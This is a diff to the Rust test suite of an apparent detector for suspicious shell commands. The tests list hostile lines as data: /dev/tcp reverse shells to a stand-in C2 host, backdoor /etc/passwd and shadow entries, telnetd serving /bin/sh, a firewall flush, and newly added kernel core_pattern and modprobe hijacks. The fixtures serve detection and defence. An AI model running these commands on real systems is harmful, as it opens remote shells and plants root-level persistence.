@@ -162,8 +162,11 @@ mod tests {
     fn what_a_person_should_look_at() {
         for text in [
             &b"exec 5<>/dev/tcp/192.0.2.1/443"[..],
+            b"echo '|/tmp/x %p' > /proc/sys/kernel/core_pattern",
+            b"echo /tmp/x > /proc/sys/kernel/modprobe",
             b"exec 5<>/dev/tcp/c2.example.net/443; cat <&5 | while read l; do $l 2>&5 >&5; done",
             b"echo 'x:$1$a$b:1001:0::/:/bin/sh' >> /etc/passwd",
+            b"echo 'x::1001:100::/:/bin/sh' >> /etc/passwd",
             b"telnetd -l /bin/sh -p 2323",
             b"procd_set_param command /usr/sbin/telnetd -F -l /bin/sh -p 5555",
             b"iptables -F; iptables -P INPUT ACCEPT",
@@ -262,6 +265,7 @@ mod tests {
             b"echo 'svc:*:16000:0:99999:7:::' >> /etc/shadow",
             b"[ -f /root/.ssh/authorized_keys ] && chmod 600 /root/.ssh/authorized_keys",
             b"rm -f /usr/lib/opkg/info/reboot; echo reboot >> /tmp/x",
+            b"echo /tmp/core.%p > /proc/sys/kernel/core_pattern; echo /sbin/mdev > /proc/sys/kernel/hotplug",
             b"exec 3<>/dev/tcp/127.0.0.1/80; timeout 1 bash -c \"exec 4<>/dev/tcp/$h/$p\"",
             b"grep -q ^x: /etc/passwd || echo 'x:*:200:200:x:/var/run/x:/bin/false' >> /etc/passwd",
             b"echo 'x:!:0:0:99999:7:::' >> /etc/shadow; echo 'x:x:25:25::/:/sbin/nologin' >> /etc/passwd",
